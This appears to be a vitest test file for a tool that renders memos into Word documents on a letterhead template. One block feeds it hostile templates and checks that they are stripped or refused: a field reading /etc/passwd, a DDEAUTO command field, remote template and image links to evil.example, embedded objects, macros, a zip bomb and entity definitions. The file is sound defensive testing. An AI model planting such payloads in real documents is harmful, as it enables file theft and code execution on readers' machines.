import { unzipSync, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { readLetterhead } from '../../src/reporter/render/docx/letterhead/read-letterhead.ts';
import { LetterheadError } from '../../src/reporter/render/docx/letterhead/xml.ts';
import { renderDocx } from '../../src/reporter/render/docx/render-docx.ts';
import { makeLetterhead, withParts } from './make-letterhead.ts';
import { elements, partsOf } from './office-file.ts';
import { DAIRY_MEMO, footnotesOf, quotationsOf } from './reports-to-render.ts';

const template = await makeLetterhead();
const allText = (bytes: Uint8Array): string =>
  Object.entries(unzipSync(bytes))
    .filter(([name]) => /\.(xml|rels)$/.test(name))
    .map(([, part]) => new TextDecoder().decode(part))
    .join('\n');

describe('a memo on a letterhead', async () => {
  const bytes = await renderDocx(DAIRY_MEMO, readLetterhead(template));
  const parts = partsOf(bytes);
  const body = parts.get('word/document.xml');
  const words = allText(bytes);

  test('has the headers, footers and page of the template, and our content', () => {
    expect(words).toContain('Committee on Invented Affairs');
    expect(words).toContain('Invented Affairs, continued');
    expect(words).toContain('100 Fictional Avenue');
    expect(words).not.toContain('stay behind');
    const [section] = elements(body, 'w:sectPr');
    expect(elements(section, 'w:pgSz')[0]?.getAttribute('w:w')).toBe('11906');
    expect(elements(section, 'w:pgMar')[0]?.getAttribute('w:left')).toBe('1800');
    expect(elements(section, 'w:titlePg')).toHaveLength(1);
    for (const even of elements(parts.get('word/settings.xml'), 'w:evenAndOddHeaders'))
      expect(even.getAttribute('w:val')).toBe('false');
    for (const table of elements(body, 'w:tblW'))
      expect(Number(table.getAttribute('w:w'))).toBeLessThanOrEqual(8306);
    expect(quotationsOf(DAIRY_MEMO).length).toBeGreaterThan(2);
    expect(elements(body, 'w:footnoteReference')).toHaveLength(footnotesOf(DAIRY_MEMO));
  });

  test('keeps the marks on every page, and counts pages where the template does not', () => {
    const heads = [...parts].filter(([name]) => /^word\/header[2-9]/.test(name));
    expect(heads).toHaveLength(2);
    for (const [, head] of heads) expect(head.documentElement?.textContent).toContain('Fictional record');
    const feet = [...parts]
      .filter(([name]) => /^word\/footer[2-9]/.test(name))
      .map(([, foot]) => foot.documentElement?.textContent ?? '');
    expect(feet.filter((foot) => /NUMPAGES/.test(foot))).toEqual([
      expect.stringContaining('100 Fictional Avenue'),
    ]);
  });

  test('uses the styles of the template, and adds those of ours that it lacks', () => {
    const styles = elements(parts.get('word/styles.xml'), 'w:style');
    const ids = styles.map((style) => style.getAttribute('w:styleId'));
    expect(new Set(ids).size).toBe(ids.length);
    expect(allText(bytes)).toContain('7A0019');
    const used = [...words.matchAll(/<w:(?:pStyle|rStyle|tblStyle) w:val="([^"]+)"/g)].map(([, id]) => id);
    for (const id of new Set(used)) expect(ids).toContain(id);
  });

  test('points only at parts that are there, and at nothing outside', () => {
    const names = Object.keys(unzipSync(bytes));
    for (const [name, rels] of parts) {
      if (!name.endsWith('.rels')) continue;
      const folder = name.replace(/_rels\/[^/]+$/, '');
      for (const one of elements(rels, 'Relationship')) {
        expect(one.getAttribute('TargetMode')).not.toBe('External');
        expect(names).toContain(`${folder}${one.getAttribute('Target')}`.replace(/^\//, ''));
      }
    }
    expect(names.filter((name) => name.includes('media/letterhead'))).toHaveLength(1);
  });

  test('has the same bytes twice', async () =>
    expect(
      Buffer.from(await renderDocx(DAIRY_MEMO, readLetterhead(template))).equals(Buffer.from(bytes)),
    ).toBe(true));
});

const HEADER = 'word/header1.xml';
const inHeader = (xml: string): Uint8Array =>
  withParts(template, (_, text) => ({ [HEADER]: text(HEADER).replace(/<\/w:hdr>/, `${xml}</w:hdr>`) }));
const EVIL = 'http://evil.example/';

describe('a hostile template', () => {
  test.each<[string, Uint8Array, string | null]>([
    [
      'a field that reads a file',
      inHeader(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>',
      ),
      'fields',
    ],
    [
      'a field that runs a program',
      inHeader(
        '<w:p><w:fldSimple w:instr="DDEAUTO cmd /etc/passwd"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
      ),
      null,
    ],
    [
      'a link',
      inHeader(
        `<w:p><w:hyperlink r:id="rId99" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:r><w:t>words of it</w:t></w:r></w:hyperlink></w:p>`,
      ),
      null,
    ],
    [
      'an object',
      inHeader(
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed"/></w:object></w:r></w:p>',
      ),
      'embedded objects',
    ],
    [
      'an imported document',
      inHeader(
        '<w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId7"/>',
      ),
      'imported documents',
    ],
    [
      'relationships to elsewhere',
      withParts(template, (_, text) => ({
        'word/_rels/header1.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId0" Type="image" Target="${EVIL}x.png" TargetMode="External"/></Relationships>`,
        'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="attachedTemplate" Target="${EVIL}t.dotm" TargetMode="External"/></Relationships>`,
        'word/settings.xml': text('word/settings.xml').replace(
          /(<w:settings\b[^>]*>)/,
          '$1<w:attachedTemplate r:id="rId1"/>',
        ),
      })),
      null,
    ],
    [
      'macros',
      withParts(template, () => ({ 'word/vbaProject.bin': `${EVIL} Sub AutoOpen()` })),
      'macros and embedded objects',
    ],
  ])('%s does not come along', async (_, hostile, said) => {
    const letterhead = readLetterhead(hostile);
    const bytes = await renderDocx(DAIRY_MEMO, letterhead);
    const words = allText(bytes);
    expect(words).not.toMatch(
      /evil\.example|etc\/passwd|DDEAUTO|INCLUDETEXT|OLEObject|w:object|altChunk|attachedTemplate|w:hyperlink /,
    );
    expect(Object.keys(unzipSync(bytes)).filter((name) => /vba|embeddings|activeX/.test(name))).toEqual([]);
    if (said) expect(letterhead.leftOut).toContain(said);
    partsOf(bytes);
  });

  test.each<[string, Uint8Array, string]>([
    ['is no archive', new TextEncoder().encode('not a zip'), 'not a Word file'],
    ['is another archive', zipSync({ 'a.txt': new Uint8Array(3) }), 'word/document.xml'],
    ['unpacks to too much', zipSync({ 'word/document.xml': new Uint8Array(61_000_000) }), 'too large'],
    [
      'has too many parts',
      zipSync(Object.fromEntries(Array.from({ length: 2001 }, (_, n) => [`${n}`, new Uint8Array()]))),
      'too large',
    ],
    [
      'defines entities',
      withParts(template, (_, text) => ({ [HEADER]: `<!DOCTYPE x [<!ENTITY a "b">]>${text(HEADER)}` })),
      'defines entities',
    ],
    ['is broken', withParts(template, () => ({ 'word/styles.xml': '<w:styles' })), 'not well-formed'],
    [
      'is nested without end',
      inHeader(`${'<w:p>'.repeat(5000)}${'</w:p>'.repeat(5000)}`),
      'nested too deeply',
    ],
    [
      'leaves no room',
      withParts(template, (_, text) => ({
        'word/document.xml': text('word/document.xml').replace('w:left="1800"', 'w:left="9000"'),
      })),
      'too little room',
    ],
  ])('that %s is refused', (_, hostile, why) => {
    expect(() => readLetterhead(hostile)).toThrow(LetterheadError);
    expect(() => readLetterhead(hostile)).toThrow(why);
  });
});
